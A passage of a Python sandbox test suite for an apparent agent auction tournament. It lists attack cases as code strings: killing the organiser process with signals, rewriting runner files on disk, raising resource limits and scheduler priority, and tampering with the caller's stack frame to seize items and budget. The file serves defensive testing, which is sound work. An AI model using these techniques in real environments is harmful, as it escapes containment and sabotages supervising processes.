time.perf_counter = time.monotonic = time.time = lambda: 0.0
inside = "agt_tournament.sandbox.inside."
for name in ("json", "struct", "os", inside + "protocol", inside + "interface"):
    sys.modules[name] = None
yield  # it had been looked up for this bid
yield -5.0
yield float("nan")
yield float("inf")
""",
        errors=_errors("invalid"),
        succeeded=harmed,
    ),
    _attack(
        51,
        "the runner on the disk",  # to be executed by whoever starts next; opened, but left as it is
        """
from agt_tournament.sandbox.inside import runner
import base_agent

for module in (runner, base_agent, ctypes, numpy):
    for path in (module.__file__, getattr(module, "__cached__", None)):
        descriptor = attempt(os.open, path, os.O_RDWR) if path else None
        if descriptor is not None:
            reached(path)
            close(descriptor)
    folder = os.path.dirname(module.__file__)
    try:
        os.mkdir(f"{folder}/<<marker>>")
        os.rmdir(f"{folder}/<<marker>>")
        reached(folder)
    except OSError as error:
        print("refused:", error)
""",
        head="import numpy",
    ),
    _attack(
        51,
        "the clock of the machine",
        """
clock = (ctypes.c_uint64 * 32)(0x4000)  # a tick of no length: no clock takes that
let_through("adjtimex", clock)
""",
    ),
    _attack(
        52,
        "its own budget",
        """
self.budget = 1e9
for item in self.valuation_vector:
    self.valuation_vector[item] = 1e9
player = sys._getframe(2).f_locals["self"]
player._teams[:] = [self.team_id] * len(player._teams)
player._items.reverse()
return 1e9
""",
        succeeded=harmed,
    ),
    _attack(
        52,
        "its own limits",
        """
import resource

names = [name for name in dir(resource) if name.startswith("RLIMIT_")]
for name in names:
    number = getattr(resource, name)
    soft, hard = resource.getrlimit(number)
    if hard != resource.RLIM_INFINITY and name != "RLIMIT_NOFILE":
        try:
            resource.setrlimit(number, (soft, hard + 1))
            resource.setrlimit(number, (soft, hard))
            reached(name)
        except (OSError, ValueError) as error:
            print("refused:", name, error)
for kind in (os.SCHED_FIFO, os.SCHED_RR):
    attempt(lambda: (os.sched_setscheduler(0, kind, os.sched_param(1)), reached("a rank before all others")))
    attempt(os.sched_setscheduler, 0, os.SCHED_OTHER, os.sched_param(0))
attempt(lambda: (os.setpriority(os.PRIO_PROCESS, 0, -5), reached("a rank before the others")))
attempt(os.setpriority, os.PRIO_PROCESS, 0, 0)
""",
    ),
    _attack(
        53,
        "its parent killed",
        """
import signal

if os.getppid() != ORGANISER and os.getpid() != 1:
    attempt(os.kill, 1, signal.SIGKILL)  # which the first process of a namespace never gets from within
attempt(os.kill, ORGANISER, signal.SIGKILL)
""",
        errors=_errors(None, "exit", "crash", "memory"),
        succeeded=lambda evidence: evidence.organiser_hit,
    ),
    _attack(
        53,
        "a signal by a descriptor",  # sent by the kernel as soon as there is something to read
        """
import fcntl, signal

ends = self.kept = attempt(os.pipe)
if not ends:
    return
receive, send = ends
attempt(fcntl.fcntl, receive, 10, signal.SIGKILL)  # F_SETSIG
attempt(fcntl.fcntl, receive, fcntl.F_SETOWN, ORGANISER)
attempt(fcntl.fcntl, receive, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
os.write(send, b"x")
""",
        succeeded=lambda evidence: evidence.organiser_hit,
    ),
    _attack(
        53,
        "limits and rank of the organiser",  # no landlock rule is about these; each is set to what it is
        """
import resource

old = (ctypes.c_uint64 * 2)()
for pid in {ORGANISER, os.getppid()} - {0, 1}:
    if let_through("prlimit64", pid, 0, 0, old, note=f"of {pid}") == 0:
        let_through("prlimit64", pid, 0, old, 0, note=f"of {pid}")
    if cpus := attempt(os.sched_getaffinity, pid):
        attempt(lambda: (os.sched_setaffinity(pid, cpus), reached(f"the CPUs of {pid}")))
    if (nice := attempt(os.getpriority, os.PRIO_PROCESS, pid)) is not None:
        attempt(lambda: (os.setpriority(os.PRIO_PROCESS, pid, nice), reached(f"the rank of {pid}")))
    let_through("sched_setscheduler", pid, 77, 0, note=f"of {pid}")
    let_through("ioprio_set", 1, pid, 0, note=f"of {pid}")
""",
    ),
]

ATTACKS: list[Attack] = [*FILES, *REACHING_OUT, *THE_CHANNEL, *INSIDE]
